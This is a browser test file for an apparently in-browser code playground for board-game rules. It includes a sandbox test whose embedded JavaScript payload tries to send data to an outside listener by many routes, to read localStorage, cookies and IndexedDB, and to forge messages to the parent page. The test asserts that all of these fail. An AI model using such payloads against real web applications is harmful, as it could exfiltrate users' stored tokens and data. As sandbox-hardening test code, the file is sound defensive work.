"""The playground: rules in an editor, the table that follows them, and what code in there cannot do."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.axe import violations
from tests.browser.conftest import Player
from tests.browser.editor import place, write
from tests.browser.pictures import take
from tests.server.harness import Program

pytestmark = pytest.mark.browser

RULES = Path("src/rondel/shelf/tic_tac_toe.py").read_text(encoding="utf-8")
REVERSI = Path("src/rondel/shelf/reversi.py").read_text(encoding="utf-8")
MARKED = "    game.board.place(Mark, game.player, cell)\n"


def trouble(page: Page, said: str) -> Locator:
    """What is said to be wrong, once it is this."""
    found = page.locator(".bench-wrong", has_text=said)
    found.wait_for()
    return found


@pytest.mark.timeout(300)
def test_the_table_follows_the_rules_in_the_editor(author: Player) -> None:
    page = author.page
    table = page.locator("main.table")
    place(page, "a1").click()
    expect(table).to_have_attribute("data-step", "1.0")
    write(page, RULES.replace("Mark a cell", "Draw on a cell"))
    page.get_by_text("Moves played again: 1").wait_for()
    expect(page.locator(".ask")).to_contain_text("Draw on a cell")
    assert violations(page) == []

    write(page, RULES.replace("def setup(", "def setup(("))
    wrong = trouble(page, "SyntaxError")
    wrong.get_by_role("button", name="tic_tac_toe.py, line 24").click()
    expect(page.locator(".cm-activeLine")).to_contain_text("def setup((")
    expect(page.locator(".cm-lint-marker-error")).to_have_count(1)
    take(page, "playground.png")
    write(page, "import numpy\n" + RULES.partition("import annotations\n")[2])
    trouble(page, "No module named 'numpy': a browser has Rondel")

    write(page, RULES.replace("game.board.empty()", '[each for each in game.board.empty() if each.name != "a1"]'))
    wrong = trouble(page, "mark(a1) by x, does not fit the new rules")
    expect(table).to_have_attribute("data-step", "1.0")
    wrong.get_by_role("button", name="Go back to the start").click()
    expect(table).to_have_attribute("data-step", "0.0")
    expect(page.locator(".cell-button.legal")).to_have_count(8)

    write(page, RULES.replace(MARKED, f"    1 // 0\n{MARKED}").replace("Tic-tac-toe: three", "Broken: three"))
    page.get_by_text("Moves played again: 0").wait_for()
    expect(page.locator(".cell-button.legal")).to_have_count(9)
    place(page, "b2").click()
    trouble(page, "tic_tac_toe.py, line 46, in mark")
    page.locator(".bench-wrong").get_by_role("button", name="Dismiss").click()
    page.locator(".bench-wrong").wait_for(state="detached")

    page.get_by_label("Rules to begin with").select_option("reversi")
    expect(page.locator(".cell-button.legal")).to_have_count(4)
    shows_tree_and_states(page)
    begins_as_wished(page)


def shows_tree_and_states(page: Page) -> None:
    """Beside the rules, in the place of the table, also by the keyboard."""
    page.get_by_role("radio", name="Your table").focus()
    page.keyboard.press("ArrowRight")
    tree = page.get_by_role("tree")
    expect(tree.get_by_role("treeitem")).to_have_count(5)
    expect(page.locator("main.table")).to_be_hidden()
    tree.locator("[aria-selected=true]").focus()
    page.keyboard.press("ArrowDown")
    expect(tree.locator("[aria-selected=true]")).to_contain_text("black plays")
    page.get_by_role("button", name="Count").click()
    expect(page.locator(".ways td").first).to_have_text("3")
    assert violations(page) == []
    take(page, "playground-tree.png")
    page.get_by_role("radio", name="States").check(force=True)
    expect(page.locator(".diagram .state.here")).to_contain_text("PlayerTurn")
    assert violations(page) == []
    take(page, "playground-states.png")


def begins_as_wished(page: Page) -> None:
    """With an option and a bot, which plays by the rules as they are written."""
    page.get_by_role("radio", name="New table").check(force=True)
    page.locator(".newtable").get_by_label("White").select_option("greedy")
    page.locator(".newtable").get_by_label("Board size").select_option("4")
    assert violations(page) == []
    take(page, "playground-new-table.png")
    page.locator(".newtable").get_by_role("button", name="Start anew").click()
    table = page.locator("main.table")
    expect(table.locator(".cell-button")).to_have_count(16)
    table.locator(".cell-button.legal").first.click()
    expect(table).to_have_attribute("data-step", "2.0")
    write(page, REVERSI.replace("def play_disc", "def lay_disc").replace("@play_disc.", "@lay_disc."))
    trouble(page, "does not fit the new rules").get_by_role("button", name="Start anew").click()
    expect(table).to_have_attribute("data-step", "0.0")
    expect(table.locator(".cell-button")).to_have_count(16)
    table.locator(".cell-button.legal").first.click()
    expect(table).to_have_attribute("data-step", "2.0")
    page.get_by_label("Rules to begin with").select_option("tic_tac_toe")
    expect(page.locator(".cell-button.legal")).to_have_count(9)


ATTACK = '''
import js
from pyodide.ffi import to_js

SCRIPT = """
const address = "http://ADDRESS";
globalThis.found = [];
const attempt = (name, work) => {
  try {
    Promise.resolve(work()).then((got) => found.push(`${name}: ${got}`), () => {});
  } catch {}
};
attempt("fetch", () => fetch(`${address}/fetch`, { mode: "no-cors" }));
attempt("own fetch", () => fetch("OWN/api/me", { credentials: "include" }));
attempt("relative fetch", () => fetch("/api/me"));
attempt("XMLHttpRequest", () => {
  const request = new XMLHttpRequest();
  request.open("GET", `${address}/xhr`, false);
  request.send();
  return request.status;
});
attempt("WebSocket", () => new Promise((done, fail) => {
  const socket = new WebSocket(address.replace("http", "ws"));
  socket.onopen = () => done("open");
  socket.onerror = fail;
}));
attempt("EventSource", () => new Promise((done, fail) => {
  const source = new EventSource(`${address}/events`);
  source.onopen = () => done("open");
  source.onerror = fail;
}));
attempt("importScripts", () => importScripts(`${address}/script.js`) ?? "imported");
attempt("import", () => import(`${address}/module.js`));
attempt("import of the page's own", () => import("OWN/service-worker.js"));
attempt("FontFace", () => new FontFace("stolen", `url(${address}/font)`).load());
attempt("Worker", () => new Promise((done) => {
  const inside = `fetch("${address}/nested").then(() => postMessage("fetched"))`;
  new Worker(URL.createObjectURL(new Blob([inside]))).onmessage = (event) => done(event.data);
}));
attempt("localStorage", () => Object.keys(localStorage));
attempt("caches", () => caches.keys());
attempt("indexedDB", () => new Promise((done, fail) => {
  const request = indexedDB.open("rondel");
  request.onsuccess = () => done("open");
  request.onerror = fail;
}));
attempt("files", () => navigator.storage.getDirectory());
attempt("cookies", () => cookieStore.getAll());
attempt("document", () => parent.document.title);
attempt("top", () => { top.location = address; return "gone"; });
attempt("window", () => window.open(address));
const forged = { table: "KEPT", text: "{}", type: "keep", id: 1 };
postMessage(forged);
postMessage({ type: "frame", socket: 2, frame: '{"type":"update","scene":{"look":{"css":"' + address + '/look.css"}}}' });
"""
js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js([SCRIPT]))))
'''
"""Python may run JavaScript as well, though not as a text: ``eval`` is refused."""


class Listener:
    """A server of somebody else, which notes who asks it for something."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                """Print nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


@pytest.mark.timeout(300)
def test_code_in_the_editor_reaches_no_address_and_nothing_that_is_stored(
    server: Program, author: Player, listener: Listener
) -> None:
    page = author.page
    page.evaluate('localStorage.setItem(\'rondel.table.KEPT\', \'{"tokens": {"x": "secret"}}\')')
    httpx.get(f"http://{listener.address}/listens")
    page.evaluate("new Promise(done => { indexedDB.open('rondel').onsuccess = done })")
    stored = "() => ({ ...localStorage })"
    before = page.evaluate(stored)
    seen: list[str] = []
    page.context.on("response", lambda response: seen.append(response.url))
    attack = ATTACK.replace("ADDRESS", listener.address).replace("OWN", server.address)
    write(page, RULES.replace("\nfrom collections", f"{attack}\nfrom collections"))
    page.get_by_text("Moves played again: 0").wait_for()
    place(page, "a1").click()  # the table goes on, and by now what was attempted has succeeded or failed
    expect(page.locator("main.table")).to_have_attribute("data-step", "1.0")
    write(
        page,
        RULES.replace(
            "\nfrom collections", "\nimport js\nraise RuntimeError(f'reached: {list(js.globalThis.found)}')\n\nfrom collections"
        ),
    )
    trouble(page, "RuntimeError: reached: []")
    assert listener.asked == ["/listens"]
    assert [each for each in seen if not each.startswith("blob:")] == []
    assert page.evaluate(stored) == before
    assert page.url == f"{server.address}/play/"
    frame = next(each for each in page.frames if each.url.endswith("/frame.html"))
    assert frame.evaluate("origin") == "null"
    page.reload()  # it ends the worker that checks, which has attempted all that as well
    page.locator(".bench-wrong").wait_for()
    author.complaints.clear()  # of what was refused


@pytest.mark.timeout(300)
def test_rules_that_loop_flood_or_eat_memory_are_ended_and_the_table_comes_back(author: Player) -> None:
    page = author.page
    place(page, "a1").click()
    table = page.locator('main.table[data-step="1.0"]')
    table.wait_for()
    waits = "import time\n        time.sleep(600)"
    write(
        page,
        RULES.replace(
            MARKED, f"    while cell.name == 'b2':\n        pass\n    if cell.name == 'c2':\n        {waits}\n{MARKED}"
        ),
    )
    page.get_by_text("Moves played again: 1").wait_for()
    for cell in ("b2", "c2"):
        place(page, cell).click()
        trouble(page, "do not come to an end there; the table is as it was")
        page.locator(".bench-wrong").get_by_role("button", name="Dismiss").click()
        page.locator(".bench-wrong").wait_for(state="detached")
    write(page, RULES.replace(MARKED, f"    if cell.name == 'a2':\n        raise SystemExit\n{MARKED}"))
    page.get_by_text("Moves played again: 1").wait_for()
    place(page, "a2").click()
    trouble(page, "ended Python (SystemExit); the table is as it was")
    place(page, "c3").click()
    expect(page.locator("main.table")).to_have_attribute("data-step", "2.0")
    write(page, f"import js\nwhile True:\n    js.postMessage('again')\n{RULES.partition('import annotations')[2]}")
    trouble(page, "send more messages than anybody can read")
    write(
        page,
        RULES.replace("class TicTacToe", "HELD = []\nwhile True:\n    HELD.append(bytearray(4 * 10**6))\n\n\nclass TicTacToe"),
    )
    trouble(page, "MemoryError")
    write(page, RULES)
    page.get_by_text("Moves played again: 2").wait_for()


def test_the_document_of_the_frame_is_of_no_origin_wherever_it_is_opened(server: Program) -> None:
    policies = server.get("/frame.html").headers.get_list("content-security-policy")
    assert len(policies) == 1
    assert policies[0].startswith("sandbox allow-scripts; default-src 'none'")
    assert policies[0].endswith("frame-ancestors 'self'")
    assert "x-frame-options" not in server.get("/frame.html").headers
    assert "frame-ancestors 'none'" in server.get("/play/").headers["content-security-policy"]
